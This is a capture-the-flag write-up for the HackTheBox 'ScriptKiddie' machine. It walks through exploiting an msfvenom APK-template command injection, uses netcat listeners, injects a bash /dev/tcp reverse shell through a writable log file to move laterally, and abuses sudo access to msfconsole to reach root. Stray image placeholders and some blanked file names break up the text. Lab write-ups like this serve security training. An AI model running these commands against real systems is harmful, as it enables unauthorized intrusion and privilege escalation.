This is a write-up on the ScriptKiddie machine challenge from HTB. For more information on challenges like these, check out my post on penetration testing.  Special thanks to HTB user 0xdf for creating the challenge.


Start with a basic nmap, revealing ssh and a web server on port 5000 (port 5000 may be listed as the UPnP service but it is actually a web server).


The site allows several OS tools to be run from a web interface. Although the site does a good job at validating input, the option to automatically create a payload with msfvenom is susceptible.

Breaking In

On the server, MetaSploit's msfvenom is used to generate a payload when requested in the web form. Ironically, the running version of msfvenom contains a vulnerability whereby a specially crafted APK template can result in unauthorized code execution.  Full details of the vulnerability can be found here.

To make matters a bit more confusing, there is a MetaSploit module which can be used to create the template for this exploit.  Launch the MetaSploit console (version 6.0 and above) and run the commands below to generate an APKtemplate that will open a reverse shell to the local machine.  MetaSploit will output the location of the APK file.

$ msfconsole
 msf6> use exploit/unix/fileformat/metasploit_msfvenom_apk_template_cmd_injection
 msf6> set target 0
 msf6> set LHOST <YOUR IP HERE>
 msf6> set LPORT 1234
 msf6> exploit

In a terminal window, use netcat to open a listener on port 1234.

nc -lnvp 1234

Next, on the website "payloads" section, select Android for OS and upload the APK file that was generated by MetaSploit (LHOST in the web form is not relevant and can be set to any valid IP address). Click generate and a reverse shell will open in the terminal window. The shell will be running under the context of user kid and user.txt will be available in /home/kid.  For better stability and easier access, optionally add an SSH key to /home/kid/.ssh/authorized_keys.Lateral Movement

There is another user on the system called pwn, and there is a script called in /home/pwn which reads IP addresses from /home/kid/logs/hackers and passes them to an nmap command. The script appears to run consistently based on that file's timestamp.

The script is owned and operated by the pwn user, but the kid user has write access to the log file, making it is possible to craft a line that will causes the script to run an arbitrary command.  Open a new listener on the local machine (using adifferent port) with nc -lnvp 1235.

Generate a reverse shellrunning under the context of the pwn user by running the commands below as the kid user.

cd /home/kid/logs
echo " ;/bin/bash -c '/bin/bash -i >& /dev/tcp/ 0>&1' # " >> hackers #note the spaces at the beginning

Getting Root

The command sudo -l reveals that the pwn user is able to run MetaSploit as the root user without any credentials.  Since MetaSploit allows local command execution, it is fairly simple to obtain theroot flag.

echo "import pty; pty.spawn('/bin/bash')" > /tmp/
python3 /tmp/ # sudo required a proper terminal
sudo/opt/metasploit-framework-6.0.9/msfconsolemsf6> cat /root/root.txt